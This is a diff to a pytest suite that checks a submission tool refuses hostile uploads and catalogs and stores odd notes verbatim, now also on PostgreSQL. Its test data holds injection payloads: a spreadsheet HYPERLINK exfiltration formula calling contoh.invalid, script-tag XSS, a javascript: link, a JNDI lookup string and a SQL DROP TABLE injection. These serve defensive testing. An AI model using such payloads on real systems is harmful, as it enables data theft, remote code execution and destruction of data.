@@ -3,7 +3,8 @@ leaves the database and the evidence folder exactly as they were.
 
 The uploads come from ``tests/corpus/make_corpus.py`` (built in memory, no binaries in the repository). Odd
 file names are accepted with a cleaned display name and never become a path. Notes are stored verbatim.
-Catalogs are refused whole. ``lentera score`` refuses CSVs it cannot read, and refuses a runaway file
+Catalogs are refused whole. These corpora run on SQLite, with one case each on PostgreSQL: validation decides before
+any SQL runs, and the snapshots compare the same rows either way. ``lentera score`` refuses CSVs it cannot read, and refuses a runaway file
 (over ``--max-rows``, default 200,000) after parsing only that many rows, in about a second.
 """
 
@@ -17,7 +18,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from conftest import snapshot_state
+from conftest import snapshot_state, sqlite_each_postgres_one
 from corpus.make_corpus import PDF, BadUpload, accepted_names, catalog_cases, evidence_cases
 from factories import World, build_world, submission_id
 
@@ -65,7 +66,11 @@ def upload(world: World, item: int, name: str, content: bytes) -> evidence.Evide
 # --------------------------------------------------------------------------- evidence uploads
 
 
-@pytest.mark.parametrize("case", evidence_cases(), ids=lambda case: case.name)
+@pytest.mark.parametrize(
+    ("db_url", "case"),
+    sqlite_each_postgres_one([(case,) for case in evidence_cases()], ids=lambda case: case[0].name),  # type: ignore[attr-defined]
+    indirect=["db_url"],
+)
 def test_a_hostile_or_broken_upload_is_refused_and_changes_nothing(
     world: World, item: int, case: BadUpload
 ) -> None:
@@ -87,7 +92,12 @@ def test_one_byte_over_the_limit_is_refused_and_the_limit_itself_is_accepted(
     assert upload(world, item, "pas.pdf", at_limit).size == limit
 
 
-@pytest.mark.parametrize(("name", "shown"), accepted_names(), ids=lambda v: repr(v)[:30])
+@pytest.mark.parametrize(
+    ("db_url", "name", "shown"),
+    # On PostgreSQL: the name with NUL and control characters, which a text column there would refuse.
+    sqlite_each_postgres_one(accepted_names(), ids=lambda case: repr(case[0])[:30], on_postgres=3),
+    indirect=["db_url"],
+)
 def test_odd_file_names_are_accepted_with_a_clean_display_name_never_a_path(
     world: World, item: int, name: str, shown: str
 ) -> None:
@@ -106,17 +116,22 @@ def test_odd_file_names_are_accepted_with_a_clean_display_name_never_a_path(
     assert [e.display_name for e in evidence.list_evidence(world.inspector, submission_id=item)] == [shown]
 
 
+NOTES = [
+    '=HYPERLINK("http://contoh.invalid/?d="&A1;"klik")',
+    "+62 812 3456 7890",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "<script>alert('xss')</script><b>tebal</b>",
+    "**markdown** [tautan](javascript:alert(1)) ![x](http://contoh.invalid/a.png)",
+    "{{ 7*7 }} ${jndi:ldap://contoh.invalid/a} '; DROP TABLE submission; --",
+]
+
+
 @pytest.mark.parametrize(
-    "note",
-    [
-        '=HYPERLINK("http://contoh.invalid/?d="&A1;"klik")',
-        "+62 812 3456 7890",
-        "-1+1",
-        "@SUM(A1:A9)",
-        "<script>alert('xss')</script><b>tebal</b>",
-        "**markdown** [tautan](javascript:alert(1)) ![x](http://contoh.invalid/a.png)",
-        "{{ 7*7 }} ${jndi:ldap://contoh.invalid/a} '; DROP TABLE submission; --",
-    ],
+    ("db_url", "note"),
+    # On PostgreSQL: the note that looks like SQL.
+    sqlite_each_postgres_one([(note,) for note in NOTES], ids=lambda case: repr(case[0])[:30], on_postgres=6),
+    indirect=["db_url"],
 )
 def test_notes_with_formulas_and_markup_are_stored_verbatim(world: World, item: int, note: str) -> None:
     submissions.save_draft(world.focal_a, submission_id=item, self_value=3, note=note)
@@ -129,7 +144,11 @@ def test_notes_with_formulas_and_markup_are_stored_verbatim(world: World, item: 
 # --------------------------------------------------------------------------- catalogs
 
 
-@pytest.mark.parametrize("name", sorted(catalog_cases()))
+@pytest.mark.parametrize(
+    ("db_url", "name"),
+    sqlite_each_postgres_one([(name,) for name in sorted(catalog_cases())], ids=lambda case: str(case[0])),
+    indirect=["db_url"],
+)
 def test_a_broken_or_hostile_catalog_is_refused_whole(world: World, name: str) -> None:
     text = catalog_cases()[name]
     started = time.monotonic()
